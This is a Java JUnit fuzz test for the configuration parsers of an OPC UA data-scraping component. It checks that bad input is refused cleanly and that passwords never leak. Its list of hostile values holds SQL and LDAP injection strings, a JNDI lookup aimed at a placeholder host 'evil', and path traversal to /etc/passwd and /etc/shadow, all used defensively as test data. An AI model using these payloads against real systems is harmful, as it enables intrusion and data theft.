package io.opcscraper.opcua.internal;

import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import java.lang.reflect.Array;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collection;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.Set;
import java.util.function.Function;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.slf4j.helpers.NOPLogger;

import io.opcscraper.config.AdType;
import io.opcscraper.config.InvalidConfigurationException;
import io.opcscraper.config.LiveConfiguration;
import io.opcscraper.config.Problem;
import io.opcscraper.config.Property;
import io.opcscraper.opcua.internal.connection.ConnectionComponent;
import io.opcscraper.opcua.internal.connection.ConnectionOptions;
import io.opcscraper.opcua.internal.discovery.DiscoveryComponent;
import io.opcscraper.opcua.internal.discovery.DiscoveryOptions;
import io.opcscraper.opcua.internal.poller.PollerComponent;
import io.opcscraper.opcua.internal.poller.PollerOptions;
import io.opcscraper.opcua.testing.CollectingSink;
import io.opcscraper.opcua.testing.Components;
import io.opcscraper.opcua.testing.PlainCrypto;
import io.opcscraper.simulator.PlantServer;

/**
 * A seeded fuzzer over every property of the Connection, Discovery and Poller PIDs (issue 6,
 * "Bad input"): random text, huge and negative numbers, empty values, unicode, SQL and
 * LDAP-filter injection, wrong Java types and arrays. The options parsers and
 * {@link LiveConfiguration} never throw anything but {@link InvalidConfigurationException};
 * every refusal names the property and (unless it is a password) the value; no password ever
 * appears in a message or in the logged options. Reproduce a run with {@code -Dfuzz.seed=N}
 * (the seed is printed).
 */
class ConfigFuzzTest {

    static final int CASES = Integer.getInteger("fuzz.cases", 3000);

    @TempDir
    Path pki;

    @Test
    void connectionOptions() {
        fuzz(ConnectionOptions.PID, ConnectionOptions.PROPERTIES, ConnectionOptions::parse, Map.of(
                "kura.service.pid", "fuzz-connection", "endpoint.url", "opc.tcp://127.0.0.1:4840"));
    }

    @Test
    void discoveryOptions() {
        fuzz(DiscoveryOptions.PID, DiscoveryOptions.PROPERTIES, DiscoveryOptions::parse,
                Map.of("kura.service.pid", "fuzz-discovery"));
    }

    @Test
    void pollerOptions() {
        fuzz(PollerOptions.PID, PollerOptions.PROPERTIES, PollerOptions::parse,
                Map.of("kura.service.pid", "fuzz-poller"));
    }

    /**
     * Fuzzed instances of all three components are constructed, reconfigured and deactivated
     * next to a valid pipeline on the simulator; the valid one stays connected, keeps its catalog
     * and keeps delivering samples.
     */
    @Test
    void fuzzedInstancesLeaveAValidPipelineUnaffected() throws Exception {
        long seed = seed("component");
        Random random = new Random(seed);
        try (PlantServer server = PlantServer.builder().tags(20).securityPolicies("None").start()) {
            ConnectionComponent connection = new ConnectionComponent(new PlainCrypto(),
                    Components.connection("valid", server.endpointUrl(), this.pki.resolve("valid")));
            Map<String, Object> discoveryProperties = Components.discovery("valid-discovery");
            discoveryProperties.put("include.patterns", "Plant/**");
            DiscoveryComponent discovery = new DiscoveryComponent(connection, discoveryProperties);
            CollectingSink sink = new CollectingSink();
            PollerComponent poller = new PollerComponent(discovery, sink, Components.poller("valid-poller", "poll", 200));
            try {
                await().atMost(Duration.ofSeconds(60)).until(() -> connection.isConnected()
                        && discovery.generation() >= 1 && !sink.samples().isEmpty());
                int nodes = discovery.nodes().size();
                Fuzzer fuzzer = new Fuzzer(random);
                for (int i = 0; i < 40; i++) {
                    Map<String, Object> c = fuzzer.mutate(ConnectionOptions.PROPERTIES,
                            Components.connection("fuzz-" + i, server.endpointUrl(), this.pki.resolve("f" + i)));
                    confinePaths(c, this.pki.resolve("f" + i), "pki.dir", "identity.keystore");
                    ConnectionComponent fuzzedConnection = new ConnectionComponent(new PlainCrypto(), c);
                    DiscoveryComponent fuzzedDiscovery = new DiscoveryComponent(fuzzedConnection,
                            fuzzer.mutate(DiscoveryOptions.PROPERTIES, Components.discovery("fuzz-d" + i)));
                    // A fuzzed poller on the VALID discovery and sink: it must not disturb them.
                    PollerComponent fuzzedPoller = new PollerComponent(discovery, new CollectingSink(),
                            fuzzer.mutate(PollerOptions.PROPERTIES, Components.poller("fuzz-p" + i, "poll", 1000)));
                    fuzzedPoller.modified(fuzzer.mutate(PollerOptions.PROPERTIES, Components.poller("fuzz-p" + i, "poll", 1000)));
                    fuzzedDiscovery.modified(fuzzer.mutate(DiscoveryOptions.PROPERTIES, Components.discovery("fuzz-d" + i)));
                    fuzzedPoller.status();
                    fuzzedDiscovery.status();
                    fuzzedConnection.status();
                    fuzzedPoller.deactivate();
                    fuzzedDiscovery.deactivate();
                    fuzzedConnection.deactivate();
                }
                assertTrue(connection.isConnected(), "the valid connection stays connected");
                assertEquals(nodes, discovery.nodes().size(), "the valid catalog is unchanged");
                sink.clear();
                await().atMost(Duration.ofSeconds(20)).until(() -> !sink.samples().isEmpty());
                assertEquals("valid", connection.clientId());
            } finally {
                poller.deactivate();
                discovery.deactivate();
                connection.deactivate();
            }
        }
    }

    /** Absolute paths in fuzzed values are moved under the test's folder: the fuzzer creates no directories elsewhere. */
    static void confinePaths(Map<String, Object> properties, Path root, String... keys) {
        for (String key : keys) {
            Object value = properties.get(key);
            if (value instanceof String && ((String) value).trim().startsWith("/")) {
                properties.put(key, root.resolve("confined").toString());
            }
        }
    }

    static long seed(String what) {
        long seed = Long.getLong("fuzz.seed", System.nanoTime());
        System.out.println("ConfigFuzzTest " + what + ": seed " + seed + " (rerun with -Dfuzz.seed=" + seed + ")");
        return seed;
    }

    static void fuzz(String pid, List<Property<?>> properties, LiveConfiguration.Parser<?> parser,
            Map<String, Object> base) {
        long seed = seed(pid);
        Fuzzer fuzzer = new Fuzzer(new Random(seed));
        int refused = 0;
        for (int n = 0; n < CASES; n++) {
            Map<String, Object> config = fuzzer.mutate(properties, new HashMap<>(base));
            String where = pid + " case " + n + " of seed " + seed + ": " + fuzzer.describe(config, properties);
            try {
                Object options = parser.parse(config);
                String shown = options.toString();
                for (String secret : fuzzer.secrets(config, properties)) {
                    assertFalse(shown.contains(secret), "a password in the options' toString: " + where);
                }
                for (Property<?> p : properties) {
                    if (mustBeRefused(p, config.get(p.id()))) {
                        fail("accepted a value that can never be valid for '" + p.id() + "': " + where);
                    }
                }
            } catch (InvalidConfigurationException e) {
                refused++;
                checkRefusal(e, config, properties, fuzzer, where);
            } catch (Throwable t) {
                throw new AssertionError("unexpected " + t + " for " + where, t);
            }
            // The same configuration through LiveConfiguration, as the components use it.
            LiveConfiguration<?> live = new LiveConfiguration<>(parser, NOPLogger.NOP_LOGGER);
            try {
                Optional<?> taken = live.update(config);
                assertEquals(taken.isEmpty(), live.problem().isPresent(), where);
                live.problem().ifPresent(problem -> fuzzer.secrets(config, properties).forEach(
                        secret -> assertFalse(problem.contains(secret), "a password in the problem: " + where)));
            } catch (Throwable t) {
                throw new AssertionError("LiveConfiguration threw " + t + " for " + where, t);
            }
        }
        System.out.println("ConfigFuzzTest " + pid + ": " + CASES + " cases, " + refused + " refused, 0 unexpected");
        assertTrue(refused > CASES / 10 && refused < CASES, "the fuzzer exercised both refusals and acceptances: "
                + refused + " of " + CASES + " refused");
    }

    /** Values no property of that type can accept. */
    static boolean mustBeRefused(Property<?> p, Object raw) {
        if (raw == null) {
            return false;
        }
        if (raw instanceof Collection || (raw.getClass().isArray() && !(raw instanceof char[]))) {
            return true;
        }
        if (raw instanceof Map || raw instanceof Object[]) {
            return true;
        }
        switch (p.type()) {
        case STRING:
            return !(raw instanceof String);
        case PASSWORD:
            return !(raw instanceof String) && !(raw instanceof char[]);
        case BOOLEAN:
            return !(raw instanceof Boolean) && !(raw instanceof String);
        default:
            return raw instanceof Boolean || raw instanceof char[];
        }
    }

    static void checkRefusal(InvalidConfigurationException e, Map<String, Object> config,
            List<Property<?>> properties, Fuzzer fuzzer, String where) {
        String message = e.getMessage();
        assertFalse(e.problems().isEmpty(), "a refusal without problems: " + where);
        for (String secret : fuzzer.secrets(config, properties)) {
            assertFalse(message.contains(secret), "a password in the message '" + message + "': " + where);
        }
        Set<String> ids = new java.util.HashSet<>();
        properties.forEach(p -> ids.add(p.id()));
        for (Problem problem : e.problems()) {
            assertTrue(ids.contains(problem.property()), "an unknown property in " + problem + ": " + where);
            assertTrue(message.contains("'" + problem.property() + "'"), "the message names the property: " + message);
            Property<?> p = properties.stream().filter(q -> q.id().equals(problem.property())).findFirst().orElseThrow();
            Object raw = config.get(p.id());
            if (p.type() == AdType.PASSWORD) {
                assertEquals(null, problem.shownValue(), "a password's value is never shown: " + where);
            } else if (raw != null) {
                String expected = show(raw);
                assertEquals(expected, problem.shownValue(), "the problem shows the value: " + where);
                assertTrue(message.contains("'" + p.id() + "' = '" + expected + "'"),
                        "the message names property and value: " + message + " / " + where);
                assertFalse(message.chars().anyMatch(c -> c == '\n' || c == '\r'), "one line: " + message);
            }
        }
        for (Property<?> p : properties) {
            if (mustBeRefused(p, config.get(p.id()))) {
                assertTrue(e.problems().stream().anyMatch(q -> q.property().equals(p.id())),
                        "'" + p.id() + "' must be among the problems of " + message + ": " + where);
            }
        }
    }

    /** What {@code Property.show} promises: one line, at most 120 characters and a length note. */
    static String show(Object raw) {
        String text = raw.getClass().isArray()
                ? raw.getClass().getComponentType().getSimpleName() + "[" + Array.getLength(raw) + "]"
                : String.valueOf(raw);
        StringBuilder shown = new StringBuilder();
        for (int i = 0; i < text.length() && shown.length() < 120; i++) {
            char c = text.charAt(i);
            shown.append(Character.isISOControl(c) ? String.format("\\u%04x", (int) c) : String.valueOf(c));
        }
        if (shown.length() >= 120 && text.length() > 120) {
            shown.append("... (").append(text.length()).append(" characters)");
        }
        return shown.toString();
    }

    /** Seeded generator of hostile property values. */
    static final class Fuzzer {

        private static final String[] NASTY = { "", " ", "\t", "\n", "0", "-1", "1e309", "NaN", "-Infinity",
                "Infinity", "true", "TRUE", "yes", "null", "None", "auto", "'; DROP TABLE sensor_data; --",
                "\" OR 1=1 --", "Robert'); DROP TABLE students;--", "(kura.service.pid=*)", "(|(a=b)(c=d))", "*)(uid=*",
                "(kura.service.pid=x))(|(a=b)", "(&)", "((((((", ")", "(a=\\", "${jndi:ldap://evil/a}", "%s%n%x",
                "../../../../etc/passwd", "/etc/shadow", "opc.tcp://", "opc.tcp://:4840", "opc.tcp://h:0",
                "opc.tcp://h:99999", "opc.tcp://[::1", "opc.tcp://[::1]x", "opc.tcp://host name:4840",
                "opc.tcp://h:4840/\u0000", "jdbc:postgresql://h/db?password=x", "jdbc:postgresql:", "jdbc:mysql://h/db",
                "i=85", "ns=2;s=", "nsu=;i=1", "ns=99999999999999999999;i=1", "i=99999999999999999999999", "g=zz",
                "b=!!", "**", "/**", "Server/**", "\u0000", "\u202e\u0645\u0631\u062d\u0628\u0627", "\ud83d\ude00\ud83d\ude00",
                "\ud800", "\uffff", "Zürich °C µ", "日本語のタグ", "2147483648", "-2147483649", "9223372036854775808",
                "0x10", "1_000", " 42 ", "+7", "4.5", "1e3", "--1" };

        private final Random random;

        Fuzzer(Random random) {
            this.random = random;
        }

        /** The configuration with 1 to 5 properties replaced (or removed), sometimes an unknown key added. */
        Map<String, Object> mutate(List<Property<?>> properties, Map<String, Object> config) {
            Map<String, Object> out = new HashMap<>(config);
            int count = 1 + this.random.nextInt(5);
            for (int i = 0; i < count; i++) {
                Property<?> p = properties.get(this.random.nextInt(properties.size()));
                if (this.random.nextInt(20) == 0) {
                    out.remove(p.id());
                } else {
                    out.put(p.id(), value(p));
                }
            }
            if (this.random.nextInt(10) == 0) {
                out.put("unknown." + this.random.nextInt(100), value(properties.get(0)));
            }
            if (this.random.nextInt(20) == 0) {
                out.put("kura.service.pid", text());
            }
            return out;
        }

        Object value(Property<?> p) {
            if (p.type() == AdType.PASSWORD) {
                // Distinctive, so a leak is recognisable; sometimes the wrong type.
                switch (this.random.nextInt(6)) {
                case 0:
                    return 271828183;
                case 1:
                    return ("pw-" + Long.toHexString(this.random.nextLong()) + "-secret").toCharArray();
                case 2:
                    return new String[] { "pw-" + Long.toHexString(this.random.nextLong()) + "-secret" };
                default:
                    return "pw-" + Long.toHexString(this.random.nextLong()) + text() + "-secret";
                }
            }
            switch (this.random.nextInt(14)) {
            case 0:
                return text();
            case 1:
                return NASTY[this.random.nextInt(NASTY.length)];
            case 2:
                return number();
            case 3:
                return String.valueOf(number());
            case 4:
                return this.random.nextBoolean();
            case 5:
                return new String[] { text(), text() };
            case 6:
                return List.of(text());
            case 7:
                return new int[] { this.random.nextInt() };
            case 8:
                return Map.of("k", text());
            case 9:
                return p.options().isEmpty() ? p.defaultAsString() + text()
                        : p.options().get(this.random.nextInt(p.options().size()));
            case 10:
                return "x".repeat(this.random.nextInt(5000)) + NASTY[this.random.nextInt(NASTY.length)];
            case 11:
                return p.min().map(m -> (Object) (m.longValue() - 1 - this.random.nextInt(3)))
                        .orElse(p.defaultValue() == null ? "" : p.defaultValue());
            case 12:
                return p.max().map(m -> (Object) (m.longValue() + this.random.nextInt(3)))
                        .orElse(new Object());
            default:
                return p.defaultValue() == null ? "" : p.defaultValue();
            }
        }

        Object number() {
            switch (this.random.nextInt(9)) {
            case 0:
                return Long.MAX_VALUE;
            case 1:
                return Long.MIN_VALUE;
            case 2:
                return -this.random.nextInt(1000);
            case 3:
                return this.random.nextDouble() * 1e12;
            case 4:
                return Double.NaN;
            case 5:
                return Double.NEGATIVE_INFINITY;
            case 6:
                return (short) this.random.nextInt();
            case 7:
                return new java.math.BigInteger("123456789012345678901234567890");
            default:
                return this.random.nextInt();
            }
        }

        String text() {
            int length = this.random.nextInt(this.random.nextInt(10) == 0 ? 400 : 30);
            StringBuilder b = new StringBuilder();
            for (int i = 0; i < length; i++) {
                switch (this.random.nextInt(6)) {
                case 0:
                    b.appendCodePoint(this.random.nextInt(0x20));
                    break;
                case 1:
                    b.appendCodePoint(0x80 + this.random.nextInt(0x10000 - 0x80));
                    break;
                case 2:
                    b.appendCodePoint(0x10000 + this.random.nextInt(0x10FFFF - 0x10000));
                    break;
                case 3:
                    b.append("'\"();=*|&\\%$".charAt(this.random.nextInt(12)));
                    break;
                default:
                    b.append((char) (0x20 + this.random.nextInt(0x5f)));
                }
            }
            return b.toString();
        }

        /** The password values of a configuration as text, to look for in messages. */
        List<String> secrets(Map<String, Object> config, List<Property<?>> properties) {
            List<String> out = new ArrayList<>();
            for (Property<?> p : properties) {
                Object raw = config.get(p.id());
                if (p.type() == AdType.PASSWORD && raw != null) {
                    String s = raw instanceof char[] ? new String((char[]) raw)
                            : raw instanceof String[] ? ((String[]) raw)[0] : String.valueOf(raw);
                    if (s.length() >= 4) {
                        out.add(s);
                    }
                }
            }
            return out;
        }

        /** The configuration for a failure message, passwords masked. */
        String describe(Map<String, Object> config, List<Property<?>> properties) {
            Map<String, String> shown = new LinkedHashMap<>();
            Function<Object, String> text = v -> v == null ? "null"
                    : v.getClass().getSimpleName() + ":" + show(v);
            config.forEach((k, v) -> shown.put(k, properties.stream()
                    .anyMatch(p -> p.id().equals(k) && p.type() == AdType.PASSWORD) ? "(password)" : text.apply(v)));
            return shown.toString();
        }
    }
}
